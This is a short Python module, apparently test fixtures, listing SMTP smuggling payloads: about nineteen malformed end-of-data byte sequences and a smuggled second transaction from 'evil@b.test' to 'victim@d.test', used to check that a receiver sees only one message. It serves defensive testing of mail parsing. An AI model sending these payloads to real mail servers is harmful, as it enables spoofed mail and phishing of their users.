"""Payloads that try to make a receiver see two messages where the sender sent one.

Each stands between the body of a first message and the commands of a second one. What disagrees
between mail servers is which of these ends a message (the SMTP smuggling of 2023): here none does.
"""

FALSE_ENDS = (
    b"\n.\n",
    b"\n.\r\n",
    b"\r\n.\n",
    b"\r.\r",
    b"\r.\r\n",
    b"\r\n.\r",
    b"\r.\n",
    b"\n.\r",
    b"\n\r.\r\n",
    b"\r\n\x00.\r\n",
    b"\r\n.\x00\r\n",
    b"\r\n.\r\r\n",
    b"\r\n.\n\r\n",
    b"\r\n. \r\n",
    b"\r\n..\r\n",
    b"\r\x00\n.\r\n",
    b"\x85.\x85",
    b"\xe2\x80\xa8.\xe2\x80\xa8",
    b"\r\n\r.\r\n",
)
SECOND = (
    b"MAIL FROM:<evil@b.test>\r\nRCPT TO:<victim@d.test>\r\nDATA\r\n"
    b"Subject: smuggled\r\n\r\nsmuggled\r\n"
)
FIRST = b"From: me@b.test\r\nSubject: first\r\n\r\nfirst"
END = b"\r\n.\r\n"


def wire(false_end: bytes) -> bytes:
    """A message's content as it is sent: one message, whatever `false_end` pretends."""
    return FIRST + false_end + SECOND + END
